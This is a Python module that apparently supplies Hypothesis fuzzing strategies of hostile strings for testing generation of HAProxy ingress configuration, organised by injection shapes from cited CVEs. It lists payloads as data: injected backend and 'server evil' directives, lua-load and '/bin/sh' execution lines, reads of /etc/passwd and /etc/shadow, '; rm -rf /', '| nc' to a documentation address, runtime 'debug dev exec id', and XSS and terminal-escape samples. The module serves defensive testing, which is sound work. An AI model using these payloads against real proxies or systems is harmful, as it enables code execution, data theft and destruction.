"""Hostile strings: our own, in the syntax of what they aim at.

Each family is named after what it wants to reach. The shapes of the CVEs of ingress controllers
are these: directives in free text (2021-25742), a separator that ends the directive at hand
(2021-25746, 2023-5043), text that satisfies the front of a pattern and goes on behind a line break
(2025-1097), a *typed* field that nobody checked, such as an object's uid (2025-1098), a comment
sign that hides the rest of a line (2025-24514), and directives that the proxy's own check already
carries out, such as loading a library from an open file (2025-1974).
"""

from __future__ import annotations

from typing import Final

from hypothesis import strategies as st

LINE_BREAKS: Final = (
    "\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029",
)  # fmt: skip
SEPARATORS: Final = (" ", "\t", ";", "#", "\\", '"', "'", "`", ",", ":", "/", "|", "&", "\x00")

DIRECTIVES: Final = (
    "\n    http-request return status 200 string pwned",
    "\n    server evil 198.51.100.6:80",
    "\n\nbackend evil\n    server evil 198.51.100.6:80",
    "\n\nfrontend evil\n    bind :6666\n    default_backend default:todo\n",
    "\r\n    http-request deny",
    "\n    use_backend default:other if TRUE #",
    "\nlisten stats\n    bind :9999\n    stats enable\n    stats admin if TRUE",
    " backup",
    " disabled",
    " check port 22",
    "\tcookie stolen",
)
HALF_ALLOWED: Final = (
    "todo.example.com\n    http-request deny",
    "blue #(\n){}\n }}\n    http-request return status 200",
    "CN=todo #\n    lua-load /proc/self/fd/9",
    "https://auth.example.com/#;\n    http-request silent-drop",
    '/path" if TRUE #',
    "/a\\\n    server evil 198.51.100.6:80",
    "10.0.0.1\n    server evil 198.51.100.6:80",
    "10.0.0.1:80 backup #",
    "fe80::1%\n    http-request deny",
    "fe80::%$(id)/64",
    "00000000-0000-0000-0000-000000000000\n}\n    lua-load /tmp/evil.lua",
)
LOADED_BY_THE_CHECK: Final = (
    "\nglobal\n    lua-load /proc/self/fd/9\n",
    "\nglobal\n    lua-prepend-path /tmp/?.lua\n",
    "\nglobal\n    ssl-engine /proc/self/fd/9\n",
    "\n    external-check command /bin/sh",
    "\nprogram evil\n    command /bin/sh -c id\n",
    "\nglobal\n    insecure-fork-wanted\n    user root\n    chroot /\n",
    "-f /etc/passwd",
    "/etc/passwd",
    "../../../../etc/shadow",
    "/dev/stdin",
    "@/etc/passwd",
    "file@/etc/passwd",
    "fd@3",
    "unix@/run/haproxy/master.sock",
)
EXPRESSIONS: Final = (
    "%[env(HOME)]",
    "%[src,lua.evil]",
    "%[req.hdr(host),map(/etc/passwd)]",
    "%{+Q}o",
    "%%[env(HOME)]",
    "${HOME}",
    '"${HOME}"',
    "$HOME",
    "${HOME[*]}",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ backend.__class__.__mro__ }}",
    "{# #}",
    "{map}",
    "{0}",
    "%s%n",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "| nc 198.51.100.6 1",
    "!!python/object:os.system id",
    "<!--#exec cmd=id -->",
)
QUOTES: Final = (
    '"', "'", '" #', "' #", '\\"', "\\", "\\ ", "\\x0a", "\\n", "\\#", "a#b", '""',
    "\\\\\n", "\\x2",
)  # fmt: skip
MAPS: Final = (
    "a b",
    "a\tb",
    "a\nother.example.com default/evil",
    "# a comment",
    "other.example.com/ default/evil\n",
    " ",
    "x.org default/other",
)
RUN_TIME: Final = (
    ";shutdown sessions server default:todo/a",
    "; disable frontend vulcanized",
    "\ndel server default:other/a\n",
    "<<",
    "<<\nevil default/evil\n\n",
    "\\;",
    ";@1 quit",
    "@1 show env",
    "#0x0",
    "expert-mode on;debug dev exec id",
    "\nreload\n",
)
UNICODE: Final = (
    "\u202egnp.exe",
    "\ufeff",
    "\u200b",
    "\uff54\uff4f\uff44\uff4f",
    "todo\u3002example\u3002com",
    "\u212aelvin",
    "٣",
    "İ",
    "ß",
    "\U0001f4a9",
    "\ud800",
    "\udfff",
    "a\u0301" * 20,
    "\x00",
    "a\x00b",
    "\x7f",
    "\x9b31m",
)
SHOWN: Final = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]52;c;aWQ=\x07",
    "\x1bP$q\x1b\\",
    "\x9d0;title\x9c",
    "\b\b\b\b",
    "\rnothing wrong here",
    "[red]markup[/red]",
    "[link=file:///etc/passwd]x[/link]",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</td></tr></table><h1>",
    "&lt;&amp;",
    '"} 1\nvulcanized_apps 99\n#',
    '{"level": "info"}\n{"level": "error"}',
)
LONG: Final = ("a" * 64, "a" * 254, "-" * 300, "a." * 200, "/" + "a" * 300, "9" * 5000, "[" * 300)

ALL: Final = (
    *LINE_BREAKS,
    *SEPARATORS,
    *DIRECTIVES,
    *HALF_ALLOWED,
    *LOADED_BY_THE_CHECK,
    *EXPRESSIONS,
    *QUOTES,
    *MAPS,
    *RUN_TIME,
    *UNICODE,
    *SHOWN,
    *LONG,
    "",
)

anything = st.text(st.characters(exclude_categories=()), max_size=30)
"""Any text there can be, lone surrogates and all."""

hostile = st.one_of(st.sampled_from(ALL), st.sampled_from(ALL), anything)


def _spliced(text: str, at: float, payload: str) -> str:
    where = round(at * len(text))
    return text[:where] + payload + text[where:]


def around(text: str) -> st.SearchStrategy[str]:
    """`text` with something hostile in front of it, in it, behind it or in its place."""
    places = st.sampled_from((0.0, 1.0, 1.0, 0.5))
    single = st.sampled_from((*LINE_BREAKS, *SEPARATORS))
    return st.one_of(
        st.builds(_spliced, st.just(text), places, single),
        st.builds(_spliced, st.just(text), places, hostile),
        hostile,
    )
